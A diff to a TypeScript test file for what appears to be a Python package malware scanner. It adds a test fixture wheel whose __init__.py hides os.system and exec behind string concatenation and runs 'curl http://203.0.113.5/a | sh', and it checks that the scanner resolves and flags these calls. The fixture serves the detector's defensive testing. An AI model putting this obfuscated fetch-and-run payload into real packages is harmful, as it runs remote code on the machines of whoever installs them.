@@ -12,7 +12,7 @@ import { extractFeatures, initFeatures } from '../../src/features/index.js';
 import { analyseArtifact, modelStages } from '../../src/judge.js';
 import { bundledModel } from '../../src/model/bundled.js';
 import { type ScanStages, scan } from '../../src/scan.js';
-import type { Artifact } from '../../src/types.js';
+import type { Artifact, OrFinding } from '../../src/types.js';
 import { maliciousRelease } from '../action/fixtures.js';
 import { makeSdist, makeWheel } from '../fixtures/archives.js';
 
@@ -54,14 +54,17 @@ async function scanOne(filename: string) {
   const model = bundledModel();
   const stages: ScanStages<string> = {
     ...modelStages(model, (bytes) => readArchive(bytes), extractFeatures),
-    resolve: async () => ({ files: [filename] }),
-    download: async (file, ref): Promise<Artifact> => ({
-      ref,
-      filename: file,
-      kind: 'other',
-      url: `http://index.invalid/${file}`,
-      sha256: 'ab'.repeat(32),
-      bytes: files[file]!,
+    resolve: async () => ({ ok: true, value: { files: [filename] } }),
+    download: async (file, ref): Promise<OrFinding<Artifact>> => ({
+      ok: true,
+      value: {
+        ref,
+        filename: file,
+        kind: 'other',
+        url: `http://index.invalid/${file}`,
+        sha256: 'ab'.repeat(32),
+        bytes: files[file]!,
+      },
     }),
   };
   const ref = { name: 'pkg', version: '1.0', hashes: [], file: 'requirements.txt', line: 1 };
@@ -117,6 +120,40 @@ describe('inspect and scan share one path to a verdict', () => {
     expect(bomb).toBe('unscannable');
     expect(honest).not.toBe('unscannable');
     expect(await inspectCommand.run(['honest_pkg-1.0.tar.gz'], io)).toBe(0);
+  }, 60_000);
+
+  it('--json shows what each normalised call resolved to, at the line as written', async () => {
+    const name = 'split_pkg-1.0-py3-none-any.whl';
+    writeFileSync(
+      join(dir, name),
+      makeWheel({
+        name: 'split-pkg',
+        version: '1.0',
+        files: {
+          'split_pkg/__init__.py':
+            "run = getattr(__import__('o'+'s'), 'sys'+'tem')\nrun('curl http://203.0.113.5/a | sh')\n" +
+            "__import__('builtins').__dict__['ex'+'ec']('x = 1')\n",
+        },
+      }),
+    );
+    const chunks: string[] = [];
+    const io = { stdout: (s: string) => void chunks.push(s), stderr: () => {}, cwd: dir, env: {} };
+    expect(await inspectCommand.run([name, '--json'], io)).toBe(1);
+    const evidence = JSON.parse(chunks.join('')).evidence as {
+      line: number;
+      snippet: string;
+      message: string;
+    }[];
+    expect(evidence).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          line: 2,
+          snippet: "run('curl http://203.0.113.5/a | sh')",
+          message: expect.stringContaining('(resolved: os.system)'),
+        }),
+        expect.objectContaining({ line: 3, message: expect.stringContaining('(resolved: builtins.exec)') }),
+      ]),
+    );
   }, 60_000);
 });
 
